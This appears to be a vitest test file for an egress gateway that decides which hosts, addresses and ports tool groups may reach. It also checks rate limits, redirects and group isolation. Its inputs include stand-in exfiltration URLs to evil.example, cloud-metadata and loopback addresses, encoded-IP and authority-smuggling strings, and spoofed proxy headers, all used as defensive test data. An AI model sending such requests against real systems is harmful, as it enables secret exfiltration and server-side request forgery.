// Where a connection may end: names, addresses, ports, and what one group may use at once.
import { once } from 'node:events'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { ALPHA, BETA } from '../../../../test/rig/gateway-world.ts'
import { ProxyClient } from '../../../../test/rig/proxy-client.ts'
import { HOST, OTHER, ToolWorld } from '../../../../test/rig/tool-world.ts'
import type { Address } from './host-lookup.ts'

let world: ToolWorld
beforeEach(async () => {
  world = await ToolWorld.make({ requestsPerSecond: 5 })
})
afterEach(() => world[Symbol.asyncDispose]())

const ipv4 = (address: string): Address => ({ address, family: 4 })
const ipv6 = (address: string): Address => ({ address, family: 6 })

describe('a name', () => {
  it('that no rule allows is not looked up', async () => {
    const { status, text } = await world.client.connect('secret-data.evil.example:443')
    expect(status).toBe(403)
    expect(text).toMatch(/^HTTP\/1\.1 403 .*Creel.*request_egress.*\r\n/)
    expect(text).toMatch(/no rule allows secret-data\.evil\.example:443.*call the tool request_egress/)
    expect((await world.client.plain('http://evil.example/data?a=secret')).status).toBe(403)
    expect(world.gateway.lookedUp).toEqual([])
    expect(world.lines).toEqual([
      'alpha denied CONNECT secret-data.evil.example:443 403 no rule allows secret-data.evil.example:443',
      'alpha denied GET evil.example:80/data 403 no rule allows evil.example:80',
    ])
  })

  it.each([
    ['the loopback', [ipv4('127.0.0.1')]],
    ['a private network', [ipv4('192.168.1.10')]],
    ['the metadata service', [ipv4('169.254.169.254')]],
    ['IPv6 of this machine', [ipv6('::1')]],
    ['IPv4 in IPv6', [ipv6('::ffff:127.0.0.1')]],
    ['a public and a private address', [ipv4('93.184.215.14'), ipv4('10.0.0.1')]],
  ])('that is at %s is refused by default', async (_, addresses) => {
    for (const how of ['open', 'tunnel'] as const) {
      world.gateway.names.set(HOST, addresses)
      world.policy.allow(ALPHA, world.at, { how })
      const { status, text } = await world.client.connect(world.at)
      expect(status).toBe(403)
      expect(text).toContain('not a public address')
    }
    world.policy.allow(ALPHA, `${HOST}:80`)
    expect((await world.client.plain(`http://${HOST}/`)).status).toBe(403)
    expect(world.lines).toHaveLength(3)
    expect(world.site.reached).toEqual([])
  })

  it('that changes its address after it was checked is dialled where it was', async () => {
    world.policy.allow(ALPHA, world.at, { mayBePrivate: true })
    const socket = await world.opened()
    world.gateway.names.set(HOST, [ipv4('192.0.2.1')])
    expect(await world.client.ask(socket, world.at)).toMatchObject({ status: 200 })
    expect(world.gateway.lookedUp).toEqual([HOST])
    socket.destroy()
  })

  it.each([
    ['0.0.0.0', ipv4('0.0.0.0')],
    ['a broadcast', ipv4('255.255.255.255')],
    ['many', ipv6('ff02::1')],
  ])('that is at %s is refused whatever a rule says', async (_, address) => {
    world.gateway.names.set(HOST, [address])
    world.policy.allow(ALPHA, world.at, { how: 'tunnel', mayBePrivate: true })
    expect((await world.client.connect(world.at)).status).toBe(403)
  })

  it('that has no address is said', async () => {
    world.policy.allow(ALPHA, 'nowhere.example:443')
    const { status, text } = await world.client.connect('nowhere.example:443')
    expect(status).toBe(502)
    expect(text).toContain('the name has no address')
  })
})

describe('a bare address', () => {
  it('needs a rule of its own', async () => {
    world.policy.allow(ALPHA, world.at, { mayBePrivate: true })
    for (const address of ['127.0.0.1', '[::1]', '169.254.169.254', '1.1.1.1'])
      expect((await world.client.connect(`${address}:${world.site.port}`)).status).toBe(403)
    expect(world.lines).toHaveLength(4)
  })

  it('that a rule allows is opened without a server name', async () => {
    const there = `127.0.0.1:${world.site.port}`
    world.policy.allow(ALPHA, there, { mayBePrivate: true })
    const socket = await world.client.tls(there, { ca: world.ca })
    // The site's certificate is for a name.
    expect(await world.client.ask(socket, there)).toMatchObject({ status: 502 })
    socket.destroy()
    await expect(world.client.tls(there, { ca: world.ca, servername: OTHER })).rejects.toThrow()
  })

  it.each([
    '127.1:80',
    '2130706433:80',
    '0x7f000001:80',
    'example.com',
    'a b:80',
    'evil.example:80@api.example:443',
  ])('or name in another form is none: %s', async (authority) => {
    expect((await world.client.connect(authority)).status).toBe(400)
    expect(world.policy.asked).toEqual([])
    expect(world.gateway.lookedUp).toEqual([])
  })
})

describe('a redirect', () => {
  it('to a host that is denied is answered to, and is the end of it', async () => {
    world.policy.allow(ALPHA, world.at, { mayBePrivate: true })
    world.site.serve = (_, response) =>
      response.writeHead(302, { location: `https://${OTHER}:${world.site.port}/` }).end()
    const socket = await world.opened()
    const { status, headers } = await world.client.ask(socket, world.at)
    expect(status).toBe(302)
    const next = new URL(String(headers.location))
    expect((await world.client.connect(next.host)).status).toBe(403)
    expect(world.site.reached).toEqual(['GET /'])
    socket.destroy()
  })
})

describe('a group', () => {
  it('is known by its socket: what another one may do does not count', async () => {
    world.policy.allow(ALPHA, world.at, { mayBePrivate: true })
    world.gateway.injections.set(ALPHA, world.at, { headers: { authorization: 'Bearer of-alpha' } })
    const beta = new ProxyClient(world.gateway.paths.gateway(BETA))
    const told = 'Proxy-Authorization: Basic YWxwaGE6eA==\r\nX-Creel-Group: alpha\r\n'
    expect((await beta.connect(world.at, told)).status).toBe(403)
    world.policy.allow(BETA, world.at, { mayBePrivate: true })
    let seen: unknown
    world.site.serve = (request, response) => {
      seen = request.headers
      response.end()
    }
    const socket = await beta.tls(world.at, { ca: world.ca })
    await beta.ask(socket, world.at, { headers: { 'proxy-authorization': 'Basic YWxwaGE6eA==' } })
    expect(JSON.stringify(seen)).not.toMatch(/of-alpha|proxy-authorization/)
    socket.destroy()
  })

  it('may have so many connections, and another one is not disturbed', async () => {
    world.gateway.limits = { connections: 2, bytesPerRequest: 1 << 20 }
    world.policy.allow(ALPHA, world.at, { how: 'tunnel', mayBePrivate: true })
    world.policy.allow(BETA, world.at, { how: 'tunnel', mayBePrivate: true })
    const first = await world.client.tls(world.at, { ca: world.siteCa })
    await world.client.tls(world.at, { ca: world.siteCa })
    expect((await world.client.connect(world.at)).status).toBe(429)
    const beta = new ProxyClient(world.gateway.paths.gateway(BETA))
    expect((await beta.connect(world.at)).status).toBe(200)
    first.destroy()
    await expect.poll(async () => (await world.client.connect(world.at)).status).toBe(200)
  })

  it('that asks too fast on an opened connection is told to wait, and cut off when it does not', async () => {
    world.policy.allow(ALPHA, world.at, { mayBePrivate: true })
    const socket = await world.opened()
    const one = `GET / HTTP/1.1\r\nHost: ${world.at}\r\n\r\n`
    let got = ''
    socket.on('data', (bytes: Buffer) => {
      got += bytes
    })
    const closed = new Promise((resolve) => socket.on('close', resolve))
    socket.write(one.repeat(500))
    await closed
    expect(got.split('HTTP/1.1 200').length).toBeLessThan(8)
    expect(world.site.reached.length).toBeLessThan(8)
    const askAgain = async () => {
      const again = await world.opened()
      const { status } = await world.client.ask(again, world.at)
      again.destroy()
      return status
    }
    const status = () => askAgain().catch((error: Error) => error.message)
    await expect.poll(status, { timeout: 10_000, interval: 300 }).toBe(200)
  })

  it('whose door is closed has no connection left', async () => {
    world.policy.allow(ALPHA, world.at, { how: 'tunnel', mayBePrivate: true })
    const socket = await world.client.tls(world.at, { ca: world.siteCa })
    const ended = once(socket.resume(), 'end')
    await world.gateway.gateway.close()
    await ended
    expect(world.lines).toEqual([`alpha allowed CONNECT ${world.at} 200`])
  })
})
